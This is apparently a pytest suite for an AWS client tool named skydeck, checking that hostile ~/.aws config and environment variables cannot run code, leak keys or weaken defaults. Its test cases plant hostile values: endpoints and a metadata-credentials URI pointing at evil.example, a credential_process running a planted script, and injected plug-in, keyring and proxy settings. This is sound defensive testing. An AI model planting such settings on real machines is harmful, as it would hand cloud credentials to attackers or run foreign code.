"""A hostile `~/.aws` or environment: nothing runs before consent, nothing goes unencrypted, every default stays."""

from __future__ import annotations

import os
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from skydeck.core.context import AwsContext, WriteMode
from skydeck.core.errors import AppError, ErrorKind
from skydeck.engine.accounts.sessions import Sessions
from skydeck.engine.calls.gateway import Gateway
from skydeck.engine.record.journal import Journal
from skydeck.engine.work.environment import take
from skydeck.link.messages import Hello, UseNetwork
from tests.helpers.certificates import Certificates, vouched_for
from tests.helpers.fault_proxy import FaultProxy, fault_proxy
from tests.helpers.tunnel import Tunnel, tunnel

KEYS = "aws_access_key_id = AKIABASE\naws_secret_access_key = base-secret\n"
COMMAND = "credential_process = {run}\n"
# It would work for every account, so whatever it does is seen.
EVIL = "import pathlib\npathlib.Path({ran!r}).write_text('ran')\n{more}"
PLUGIN = "def initialize_client_plugin(client):\n    raise SystemExit\n"
KEYRING = "from keyring.backends.null import Keyring\n"


@dataclass(frozen=True)
class Case:
    """What is planted, and how calls of the profile end; None: as if nothing had been."""

    name: str
    outcome: ErrorKind | None = None
    profile: str = KEYS
    others: str = ""
    environ: dict[str, str] = field(default_factory=dict)
    account: str = "profile:a"


CASES = (
    Case("endpoint in the file", ErrorKind.SIGN_IN, f"{KEYS}endpoint_url = http://evil.example\n"),
    Case("endpoint in the environment", ErrorKind.SIGN_IN, environ={"AWS_ENDPOINT_URL_STS": "http://evil.example"}),
    Case(
        "checksums and checks off",
        profile=f"{KEYS}request_checksum_calculation = when_required\nresponse_checksum_validation = when_required\n"
        "parameter_validation = false\nignore_configured_endpoint_urls = false\n",
        environ={"AWS_RESPONSE_CHECKSUM_VALIDATION": "when_required"},
    ),
    Case(
        "one attempt",
        profile=f"{KEYS}max_attempts = 1\nretry_mode = legacy\n",
        environ={"AWS_MAX_ATTEMPTS": "1", "AWS_RETRY_MODE": "legacy"},
    ),
    # Naming an authority is the user's right and has its meaning; others that libraries listen to have none.
    Case("another authority", environ={"SSL_CERT_FILE": "/nowhere", "CURL_CA_BUNDLE": "/nowhere"}),
    Case("a file for the keys of TLS", environ={"SSLKEYLOGFILE": "{folder}/tls.keys"}),
    Case("a command", ErrorKind.CANCELLED, COMMAND),
    Case(
        "a command of the source profile",
        ErrorKind.CANCELLED,
        "role_arn = arn:aws:iam::1:role/r\nsource_profile = b\n",
        others=f"[profile b]\n{COMMAND}",
    ),
    Case(
        "a command of the profile that the environment names",
        ErrorKind.CANCELLED,
        COMMAND,
        environ={"AWS_PROFILE": "a"},
        account="env",
    ),
    Case("plug-ins", environ={"BOTOCORE_EXPERIMENTAL__PLUGINS": "evil=evil_plugin"}),
    Case("models", environ={"AWS_DATA_PATH": "{folder}/.aws/models"}),
    Case(
        "instance metadata",
        ErrorKind.SIGN_IN,
        "region = us-east-1\nec2_metadata_service_endpoint = {evil}\n",
        environ={"AWS_CONTAINER_CREDENTIALS_FULL_URI": "{evil}/keys", "AWS_EC2_METADATA_DISABLED": "false"},
    ),
    Case("old signatures", profile=f"{KEYS}s3 =\n  signature_version = s3\n  addressing_style = path\n"),
    Case("another keyring", environ={"PYTHON_KEYRING_BACKEND": "evil_keyring.Keyring"}),
    Case("a proxy that reads along", ErrorKind.UNTRUSTED, environ={"HTTPS_PROXY": "{reader}", "HTTP_PROXY": "{evil}"}),
)


@dataclass
class Scene:
    """What listens, and where a planted thing would leave its trace."""

    folder: Path
    server: FaultProxy  # AWS
    proxy: Tunnel  # the way there
    evil: FaultProxy  # not encrypted
    reader: Tunnel  # a way to an impostor
    impostor: FaultProxy
    bundle: Path

    @property
    def ran(self) -> Path:
        return self.folder / "ran"

    def filled(self, text: str) -> str:
        command = f"{sys.executable} {self.folder / 'evil.py'}"
        return text.format(run=command, folder=self.folder, evil=self.evil.url, reader=self.reader.url)


@pytest.fixture(scope="module")
def pairs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Certificates, Certificates]:
    folder = tmp_path_factory.mktemp("pairs")
    names = ("*.amazonaws.com", "*.us-east-1.amazonaws.com")
    return vouched_for(folder / "aws", *names), vouched_for(folder / "reader", *names)


@pytest.fixture
def scene(tmp_path: Path, moto: int, pairs: tuple[Certificates, Certificates], no_backoff: None) -> Iterator[Scene]:
    real, false = pairs
    with (
        fault_proxy(moto, real.server) as server,
        fault_proxy(moto, false.server) as impostor,
        fault_proxy(moto) as evil,
        tunnel(server.port) as proxy,
        tunnel(impostor.port) as reader,
    ):
        yield Scene(tmp_path, server, proxy, evil, reader, impostor, real.bundle)


def plant(scene: Scene, case: Case, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = scene.folder
    (folder / "config").write_text(scene.filled(f"[profile a]\n{case.profile}\n{case.others}"))
    for name, more in (("evil", ""), ("evil_plugin", PLUGIN), ("evil_keyring", KEYRING)):
        (folder / f"{name}.py").write_text(EVIL.format(ran=str(scene.ran), more=more))
    model = folder / ".aws" / "models" / "sts" / "2099-01-01"
    model.mkdir(parents=True)
    (model / "service-2.json").write_text("{}")
    monkeypatch.syspath_prepend(str(folder))
    environ = {
        "HOME": str(folder),
        "HTTPS_PROXY": scene.proxy.url,
        "AWS_CONFIG_FILE": str(folder / "config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(folder / "none"),
        **case.environ,
    }
    for name in [name for name in os.environ if name.endswith("_CA_BUNDLE")]:  # of whoever runs the tests
        monkeypatch.delenv(name)
    for name, value in environ.items():
        monkeypatch.setenv(name, scene.filled(value))


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_a_hostile_machine_gains_nothing(scene: Scene, case: Case, monkeypatch: pytest.MonkeyPatch) -> None:
    plant(scene, case, monkeypatch)
    asked: list[str] = []

    def person(title: str, _text: str, _choices: tuple[str, ...]) -> None:
        asked.append(title)

    sessions = Sessions(Hello(str(scene.folder / "data")), take(os.environ), person)
    sessions.network.use(UseNetwork(trust=str(scene.bundle), attempts=3))
    journal = Journal(scene.folder / "data")
    gateway = Gateway(sessions, journal, lambda _told: None)
    try:
        vault = sessions.accounts().vault
        assert not scene.ran.exists(), "listed"
        assert ("PYTHON_KEYRING_BACKEND" in vault) is ("PYTHON_KEYRING_BACKEND" in case.environ)
        assert ended(gateway, case.account) is case.outcome
        assert_nothing_was_gained(scene)
        assert_defaults(sessions, gateway, case)
        assert bool(asked) is (case.outcome is ErrorKind.CANCELLED)
    finally:
        sessions.forget()
        journal.close()


def ended(gateway: Gateway, account: str) -> ErrorKind | None:
    """How two calls of an account end, which must be the same."""
    kinds: set[ErrorKind | None] = set()
    for service, operation in (("sts", "get_caller_identity"), ("s3", "list_buckets")):
        try:
            gateway.call(AwsContext(account, "us-east-1", WriteMode.READ_ONLY), service, operation, {})
        except AppError as error:
            kinds.add(error.kind)
        else:
            kinds.add(None)
    assert len(kinds) == 1, kinds
    return kinds.pop()


def assert_nothing_was_gained(scene: Scene) -> None:
    assert not scene.ran.exists(), "code ran"
    assert not (scene.folder / "tls.keys").exists()
    assert scene.evil.seen == []
    assert scene.impostor.seen == []
    for asked in (*scene.proxy.asked, *scene.reader.asked):
        assert asked.line.startswith("CONNECT "), asked
        assert asked.line.split()[1].endswith(".amazonaws.com:443")
        assert "authorization" not in asked.headers


def assert_defaults(sessions: Sessions, gateway: Gateway, case: Case) -> None:
    """Of every client that could be made."""
    context = AwsContext(case.account, "us-east-1", WriteMode.READ_ONLY)
    if case.outcome not in (None, ErrorKind.UNTRUSTED):
        return
    for service in ("s3", "sts"):
        client: Any = sessions.client(context, service)
        config = client.meta.config
        assert client.meta.endpoint_url == f"https://{service}.us-east-1.amazonaws.com"
        assert config.retries == {"mode": "standard", "total_max_attempts": 3}
        assert config.request_checksum_calculation == "when_supported"
        assert config.response_checksum_validation == "when_supported"
        assert config.parameter_validation is True
        assert client._endpoint.http_session._verify == sessions.network.wanted.trust
    url = gateway.presign(context, "s3", "get_object", {"Bucket": "b", "Key": "k"}, 60).url
    assert "X-Amz-Algorithm=AWS4-HMAC-SHA256" in url
    assert url.startswith("https://")


def test_there_are_at_least_the_twelve_cases_that_were_measured() -> None:
    assert len(CASES) == len({case.name for case in CASES}) >= 12
